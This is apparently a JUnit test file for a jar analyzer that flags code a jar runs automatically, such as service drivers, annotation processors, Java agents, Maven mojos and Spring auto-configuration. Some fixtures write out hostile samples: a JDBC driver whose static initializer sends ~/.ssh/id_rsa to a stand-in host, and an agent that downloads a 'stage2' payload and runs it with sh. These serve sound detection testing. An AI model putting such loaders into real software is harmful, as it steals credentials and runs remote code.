package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Each way a jar makes code run without the application calling it. */
class EntryPointsTest {
  @TempDir Path tmp;

  private static final String SPAWNER = """
      package fixture;
      public class Spawner {
        public static void run() {
          try { Runtime.getRuntime().exec(new String[] {"true"}); } catch (Exception e) { }
        }
      }
      """;

  /** STYLE.md §9: the shape Gatehouse exists to refuse. */
  @Test
  void driverWhoseStaticInitializerSendsSshKeysToTheNetworkIsOneCriticalServiceFinding() throws Exception {
    Path jar = JarFixture.builder().service("java.sql.Driver", "fixture.Beacon").javaSource("fixture/Beacon", """
        package fixture;
        import java.nio.file.*;
        public class Beacon { static { try (var s = new java.net.Socket("collector.invalid", 443)) {
          s.getOutputStream().write(Files.readAllBytes(Path.of(System.getProperty("user.home"), ".ssh/id_rsa")));
        } catch (Exception e) { } } }
        """).build(tmp);

    assertThat(JarAnalysis.of(jar).findings()).singleElement().isInstanceOfSatisfying(CodeFinding.class, f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.SERVICE_REGISTRATION);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.CREDENTIAL_READ);
      assertThat(f.summary()).isEqualTo("java.sql.Driver service fixture.Beacon, which DriverManager loads by "
          + "itself: its static initializer reaches network and credential-file read");
      assertThat(f.evidence().path()).isEqualTo("fixture/Beacon.class");
      assertThat(f.evidence().location()).isEqualTo("fixture.Beacon#<clinit>:4");
      assertThat(f.evidence().excerpt()).isEqualTo("ldc \".ssh/id_rsa\"; java/net/Socket.<init>");
    });
  }

  @Test
  void lombokShapedAnnotationProcessorIsABuildTimeFindingEvenThoughItReachesNothing() throws Exception {
    Path jar = JarFixture.builder()
        .service("javax.annotation.processing.Processor", "lombok.launch.AnnotationProcessorHider$AnnotationProcessor")
        .javaSource("lombok/launch/AnnotationProcessorHider", """
            package lombok.launch;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            class AnnotationProcessorHider {
              public static class AnnotationProcessor extends AbstractProcessor {
                @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
                  return false;
                }
              }
            }
            """).build(tmp);

    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.capabilities()).isEmpty();
      assertThat(f.summary()).isEqualTo("annotation processor lombok.launch.AnnotationProcessorHider$AnnotationProcessor,"
          + " which javac runs inside the build");
      assertThat(f.evidence().path()).isEqualTo("lombok/launch/AnnotationProcessorHider$AnnotationProcessor.class");
      assertThat(f.evidence().excerpt()).isEqualTo("META-INF/services/javax.annotation.processing.Processor names "
          + "lombok.launch.AnnotationProcessorHider$AnnotationProcessor");
    });
  }

  /** Lombok keeps its real classes as {@code SCL.lombok} files and loads them with its own class loader. */
  @Test
  void annotationProcessorInAJarThatHidesClassFilesUnderOtherNamesSaysSo() throws Exception {
    byte[] classFile = JarFixture.builder().javaSource("lombok/core/Main", "package lombok.core; public class Main { }")
        .compiledClass("lombok.core.Main");
    Path jar = JarFixture.builder()
        .service("javax.annotation.processing.Processor", "lombok.launch.AnnotationProcessor")
        .javaSource("lombok/launch/AnnotationProcessor", "package lombok.launch; public class AnnotationProcessor { }")
        .resource("SCL.lombok/lombok/core/Main.SCL.lombok", classFile)
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.capabilities()).containsExactly(Capability.OBFUSCATION);
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).isEqualTo("annotation processor lombok.launch.AnnotationProcessor, which javac runs "
          + "inside the build; the jar keeps 1 class file under other names, which no class-file scan reads "
          + "(SCL.lombok/lombok/core/Main.SCL.lombok)");
      assertThat(f.evidence().excerpt()).isEqualTo("META-INF/services/javax.annotation.processing.Processor names "
          + "lombok.launch.AnnotationProcessor; class file hidden as SCL.lombok/lombok/core/Main.SCL.lombok");
    });
  }

  @Test
  void annotationProcessorWhoseProcessMethodSpawnsAProcessSaysSo() throws Exception {
    Path jar = JarFixture.builder().service("javax.annotation.processing.Processor", "fixture.Gen")
        .javaSource("fixture/Spawner", SPAWNER)
        .javaSource("fixture/Gen", """
            package fixture;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            public class Gen extends AbstractProcessor {
              @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
                Spawner.run();
                return false;
              }
            }
            """).build(tmp);

    assertThat(JarAnalysis.of(jar).code()).filteredOn(f -> f.trigger() == Trigger.ANNOTATION_PROCESSOR)
        .singleElement().satisfies(f -> {
          assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
          assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
          assertThat(f.summary()).endsWith(": its process() reaches process spawn");
          assertThat(f.evidence().location()).isEqualTo("fixture.Spawner#run:4");
        });
  }

  @Test
  void javacPluginIsABuildTimeTrigger() throws Exception {
    Path jar = JarFixture.builder().service("com.sun.source.util.Plugin", "fixture.Plugin")
        .javaSource("fixture/Plugin", "package fixture; public class Plugin { public void init(Object task, String... args) { } }")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.summary()).isEqualTo("javac plugin fixture.Plugin, a javac plugin, which runs inside the build");
    });
  }

  @Test
  void everyManifestAgentAttributeIsAJavaAgentFindingSayingWhenItRuns() throws Exception {
    Map<String, String> when = Map.of(
        "Premain-Class", "which the JVM runs before main when the jar is given to -javaagent",
        "Agent-Class", "which runs when a tool attaches it to a running JVM",
        "Launcher-Agent-Class", "which the JVM runs before main whenever the jar is started with java -jar");
    for (Map.Entry<String, String> attribute : when.entrySet()) {
      Path jar = JarFixture.builder().manifest(attribute.getKey(), "fixture.Agent")
          .javaSource("fixture/Agent", "package fixture; public class Agent { public static void premain(String a) { } }")
          .build(tmp);
      assertThat(JarAnalysis.of(jar).code()).as(attribute.getKey()).singleElement().satisfies(f -> {
        assertThat(f.trigger()).isEqualTo(Trigger.JAVA_AGENT);
        assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(f.summary()).isEqualTo("Java agent (" + attribute.getKey() + ") fixture.Agent, " + attribute.getValue());
      });
    }
  }

  @Test
  void agentWhosePremainDownloadsAndRunsIsHigh() throws Exception {
    Path jar = JarFixture.builder().manifest("Premain-Class", "fixture.Agent").javaSource("fixture/Agent", """
        package fixture;
        public class Agent {
          public static void premain(String args, java.lang.instrument.Instrumentation inst) throws Exception {
            try (var in = new java.net.URL("https://payload.invalid/stage2").openStream()) { in.read(); }
            new ProcessBuilder("sh", "stage2").start();
          }
        }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.JAVA_AGENT);
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
      assertThat(f.summary()).endsWith("its premain() reaches process spawn and network");
    });
  }

  @Test
  void mavenPluginWithFortyMojosIsOneFindingNamingTheCountAndTheFirstFew() throws Exception {
    JarFixture.Builder plugin = JarFixture.builder();
    StringBuilder xml = new StringBuilder("<plugin><artifactId>many-maven-plugin</artifactId><mojos>");
    for (int i = 0; i < 40; i++) {
      String name = "Mojo%02d".formatted(i);
      plugin.javaSource("fixture/" + name, "package fixture; public class " + name + " { public void execute() { } }");
      xml.append("<mojo><goal>goal").append(i).append("</goal><implementation>fixture.").append(name)
          .append("</implementation><requirements><requirement><role>x.Y</role></requirement></requirements></mojo>");
    }
    Path jar = plugin.resource("META-INF/maven/plugin.xml", xml.append("</mojos></plugin>").toString()).build(tmp);

    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
      assertThat(f.summary()).isEqualTo("40 Maven mojos and build components run inside the build: "
          + "fixture.Mojo00, fixture.Mojo01, fixture.Mojo02 and 37 more");
      assertThat(f.evidence().path()).isEqualTo("fixture/Mojo00.class");
    });
  }

  @Test
  void mojoInheritingExecuteFromAnAbstractBaseInTheJarReachesWhatTheBaseDoes() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("fixture/Spawner", SPAWNER)
        .javaSource("fixture/BaseMojo", "package fixture; public abstract class BaseMojo { public void execute() { Spawner.run(); } }")
        .javaSource("fixture/RunMojo", "package fixture; public class RunMojo extends BaseMojo { }")
        .resource("META-INF/maven/plugin.xml", "<plugin><mojos><mojo><goal>run</goal>"
            + "<implementation>fixture.RunMojo</implementation></mojo></mojos></plugin>")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.summary()).isEqualTo("Maven mojo (goal run) fixture.RunMojo, which runs inside the Maven build: "
          + "its execute() reaches process spawn");
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    });
  }

  @Test
  void plexusComponentsAndTheSisuIndexAreBuildExtensions() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("fixture/Participant", "package fixture; public class Participant { public void afterProjectsRead(Object s) { } }")
        .javaSource("fixture/Named", "package fixture; public class Named { }")
        .resource("META-INF/plexus/components.xml", """
            <component-set><components><component>
              <role>org.apache.maven.AbstractMavenLifecycleParticipant</role>
              <implementation>fixture.Participant</implementation>
            </component></components></component-set>
            """)
        .resource("META-INF/sisu/javax.inject.Named", "# index\nfixture.Named\n")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).extracting(CodeFinding::trigger, CodeFinding::summary).containsExactlyInAnyOrder(
        tuple(Trigger.BUILD_PLUGIN, "Plexus component (org.apache.maven."
            + "AbstractMavenLifecycleParticipant) fixture.Participant, which runs inside the Maven build"),
        tuple(Trigger.BUILD_PLUGIN,
            "Sisu component fixture.Named, which runs inside the Maven build"));
  }

  @Test
  void springAutoConfigurationIsAFindingOnlyWhenItReachesACapability() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("org/springframework/context/annotation/Bean", """
            package org.springframework.context.annotation;
            @java.lang.annotation.Retention(java.lang.annotation.RetentionPolicy.RUNTIME)
            public @interface Bean { }
            """)
        .javaSource("fixture/Spawner", SPAWNER)
        .javaSource("fixture/QuietConfig", "package fixture; public class QuietConfig { public QuietConfig() { } }")
        .javaSource("fixture/LoudConfig", """
            package fixture;
            public class LoudConfig {
              @org.springframework.context.annotation.Bean public Object starter() { Spawner.run(); return this; }
            }
            """)
        .javaSource("fixture/Listener", """
            package fixture;
            public class Listener { public void onApplicationEvent(Object event) throws Exception {
              new java.net.Socket("collector.invalid", 80).close(); } }
            """)
        .resource("META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports",
            "fixture.QuietConfig\nfixture.LoudConfig\n")
        .resource("META-INF/spring.factories", "org.springframework.context.ApplicationListener=\\\n  fixture.Listener\n")
        .build(tmp);

    assertThat(JarAnalysis.of(jar).code()).extracting(CodeFinding::trigger, CodeFinding::summary).containsExactly(
        tuple(Trigger.PLUGIN_ENTRY_POINT, "Spring factory (org.springframework.context."
            + "ApplicationListener) fixture.Listener, which Spring loads at startup: its onApplicationEvent() reaches network"),
        tuple(Trigger.PLUGIN_ENTRY_POINT, "Spring Boot auto-configuration fixture.LoudConfig, "
            + "which Spring loads at startup: its starter() reaches process spawn"));
  }

  @Test
  void staticInitializerThatReachesACapabilityIsAFindingWithItsLine() throws Exception {
    Path jar = JarFixture.builder().javaSource("fixture/Spawner", SPAWNER).javaSource("fixture/Boot", """
        package fixture;
        public class Boot {
          static final int READY;
          static {
            Spawner.run();
            READY = 1;
          }
        }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.STATIC_INITIALIZER);
      assertThat(f.summary()).isEqualTo("static initializer of fixture.Boot reaches process spawn");
      assertThat(f.evidence().location()).isEqualTo("fixture.Spawner#run:4");
      assertThat(f.evidence().excerpt()).isEqualTo("java/lang/Runtime.exec");
    });
  }

  @Test
  void classesWithoutLineNumbersAreLocatedByMethodAlone() throws Exception {
    Path jar = JarFixture.builder().withoutDebugInfo().javaSource("fixture/Boot", """
        package fixture;
        public class Boot { static { System.loadLibrary("boot"); } }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement()
        .satisfies(f -> assertThat(f.evidence().location()).isEqualTo("fixture.Boot#<clinit>"));
  }

  @Test
  void nestedBootJarsAreAnalyzedAsJarsOfTheirOwnWithNestedPaths() throws Exception {
    JarFixture.Builder inner = JarFixture.builder().service("java.sql.Driver", "fixture.Inner")
        .javaSource("fixture/Spawner", SPAWNER)
        .javaSource("fixture/Inner", "package fixture; public class Inner { static { Spawner.run(); } }");
    Path jar = JarFixture.builder().classesUnder("BOOT-INF/classes/")
        .javaSource("app/Main", "package app; public class Main { public static void main(String[] a) { } }")
        .nested("BOOT-INF/lib/inner-1.0.jar", inner)
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.SERVICE_REGISTRATION);
      assertThat(f.evidence().path()).isEqualTo("BOOT-INF/lib/inner-1.0.jar!/fixture/Spawner.class");
    });
  }

  @Test
  void registrationsUnderBootInfClassesCount() throws Exception {
    Path jar = JarFixture.builder().classesUnder("BOOT-INF/classes/")
        .javaSource("fixture/Gen", "package fixture; public class Gen { }")
        .resource("BOOT-INF/classes/META-INF/services/javax.annotation.processing.Processor", "fixture.Gen\n")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.evidence().path()).isEqualTo("BOOT-INF/classes/fixture/Gen.class");
    });
  }

  @Test
  void multiReleaseClassesAreAnalyzedToo() throws Exception {
    Path jar = JarFixture.builder().classesUnder("META-INF/versions/11/").manifest("Multi-Release", "true")
        .javaSource("fixture/Boot", "package fixture; public class Boot { static { System.loadLibrary(\"boot\"); } }")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement()
        .satisfies(f -> assertThat(f.evidence().path()).isEqualTo("META-INF/versions/11/fixture/Boot.class"));
  }

  @Test
  void aClassRegisteredUnderTwoServicesIsOneFindingNamingBoth() throws Exception {
    Path jar = JarFixture.builder()
        .service("java.sql.Driver", "fixture.Both").service("javax.script.ScriptEngineFactory", "fixture.Both")
        .javaSource("fixture/Both", "package fixture; public class Both { public Both() { System.loadLibrary(\"x\"); } }")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> assertThat(f.summary()).isEqualTo(
        "java.sql.Driver service and javax.script.ScriptEngineFactory service fixture.Both, which DriverManager "
            + "loads by itself: its constructor reaches native library load"));
  }

  @Test
  void buildTimeRegistrationOfAClassMissingFromTheJarIsStillAFinding() throws Exception {
    Path jar = JarFixture.builder().service("javax.annotation.processing.Processor", "elsewhere.Gen").build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.evidence().path()).isEqualTo("META-INF/services/javax.annotation.processing.Processor");
      assertThat(f.evidence().location()).isEqualTo("elsewhere.Gen");
    });
  }
}
